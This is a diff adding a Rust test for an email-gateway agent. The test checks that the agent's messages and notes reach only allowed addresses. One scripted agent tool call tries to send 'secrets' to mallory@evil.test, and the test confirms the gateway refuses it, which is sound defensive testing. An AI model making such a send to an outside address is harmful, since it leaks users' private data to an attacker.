@@ -382,6 +382,45 @@ fn allowed_mail_gets_one_threaded_reply_and_everything_else_is_left_alone() {
 }
 
 #[test]
+fn notes_and_messages_from_the_agent_are_mailed_to_allowed_addresses_only() {
+    let fake = fake_provider(vec![
+        Canned::tool_call("send_message", &format!(r#"{{"to":"{OWNER}","text":"the parcel arrived"}}"#)),
+        Canned::tool_call("send_message", r#"{"to":"mallory@evil.test","text":"secrets"}"#),
+        Canned::tool_call("notify", r#"{"title":"Backup done","body":"all 3 disks ok"}"#),
+        Canned::ok(final_stream("Sent.")),
+    ]);
+    let (dovecot, smtp) = (Dovecot::start(), Smtp::start(false));
+    let sb = plain_profile(&fake, &dovecot, &smtp);
+    sb.ok(&["chat", "--once", "tell jane about the parcel and the backup"]);
+    let tool_results: Vec<String> = fake.requests.lock().unwrap()[1..3]
+        .iter()
+        .map(|r| r.get("messages").and_then(Value::as_array).unwrap().last().unwrap().wire())
+        .map(|w| String::from_utf8(w).unwrap())
+        .collect();
+    assert!(tool_results[1].contains("not in IMAP_ALLOWED_SENDERS; refused"), "{tool_results:?}");
+
+    let _daemon = sb.daemon(&[]);
+    let mails = smtp.wait_for(3);
+    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(smtp.received().len(), 3, "one message to jane, the note to both allowed senders");
+    let to = |m: &Value| field(m, "to").as_array().unwrap()[0].as_str().unwrap().to_owned();
+    let data = |m: &Value| field(m, "data").as_str().unwrap().to_owned();
+    let direct: Vec<&Value> = mails.iter().filter(|m| data(m).contains("the parcel arrived")).collect();
+    assert_eq!(direct.len(), 1);
+    assert_eq!(to(direct[0]), "jane.doe@example.test");
+    let mut noted: Vec<String> = mails.iter().filter(|m| data(m).contains("all 3 disks ok")).map(to).collect();
+    noted.sort();
+    assert_eq!(noted, ["jane.doe@example.test", "someone@else.test"]);
+    for mail in &mails {
+        let text = data(mail);
+        assert!(text.contains("Auto-Submitted: auto-generated") && !text.contains("Subject: Re:"), "{text}");
+        assert!(!text.contains("mallory") && !text.contains("In-Reply-To"), "{text}");
+    }
+    assert!(mails.iter().any(|m| data(m).contains("Subject: Backup done")));
+    assert!(mails.iter().any(|m| data(m).contains("Subject: A note from default")));
+}
+
+#[test]
 fn idle_wakes_the_gateway_within_two_seconds() {
     let fake = fake_provider(vec![Canned::ok(final_stream("awake"))]);
     let (dovecot, smtp) = (Dovecot::start(), Smtp::start(false));
